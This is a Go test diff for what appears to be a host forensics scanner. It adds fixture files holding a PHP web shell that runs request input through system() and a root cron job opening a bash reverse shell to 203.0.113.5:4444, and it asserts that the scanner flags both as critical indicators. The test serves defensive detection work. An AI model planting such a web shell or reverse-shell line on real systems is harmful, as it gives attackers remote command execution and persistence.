@@ -17,6 +17,8 @@ func TestTakeDebianFixture(t *testing.T) {
 	host.Process(fixture.ProcessSpec{PID: 1, PPID: 0, Comm: "systemd", Exe: "/usr/lib/systemd/systemd", Cmdline: []string{"/sbin/init"}, Cwd: "/"})
 	host.Process(fixture.ProcessSpec{PID: 4242, PPID: 1, UID: 33, Comm: "kworker/0:1", Exe: "/dev/shm/.x/k (deleted)", Cmdline: []string{"[kworker/0:1]"}, Cwd: "/tmp"})
 	host.File("/proc/stat", "cpu  1 2 3 4\nbtime 1700000000\n", 0o444)
+	host.File("/var/www/html/up.php", "<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>", 0o644)
+	host.File("/etc/cron.d/sync", "*/5 * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", 0o644)
 	fsys, err := hostfs.Open(host.Dir)
 	if err != nil {
 		t.Fatal(err)
@@ -57,6 +59,7 @@ func TestTakeDebianFixture(t *testing.T) {
 		"ssh_options": "key = 'PermitRootLogin'", "jobs": "kind = 'cron'", "services": "name = 'ssh.service' AND state = 'enabled'",
 		"hooks": "kind = 'pam'", "packages": "name = 'coreutils'", "package_files": "path = '/usr/bin/ls'",
 		"processes": "pid = 4242 AND exe_deleted = 1", "contents": "path = '/etc/ssh/sshd_config'",
+		"indicators": "(path = '/var/www/html/up.php' AND category = 'webshell' AND severity = 'critical') OR (path = '/etc/cron.d/sync' AND category = 'reverse-shell')",
 	} {
 		var n int
 		if err := r.DB().QueryRow("SELECT count(*) FROM " + table + " WHERE " + where).Scan(&n); err != nil || n == 0 {
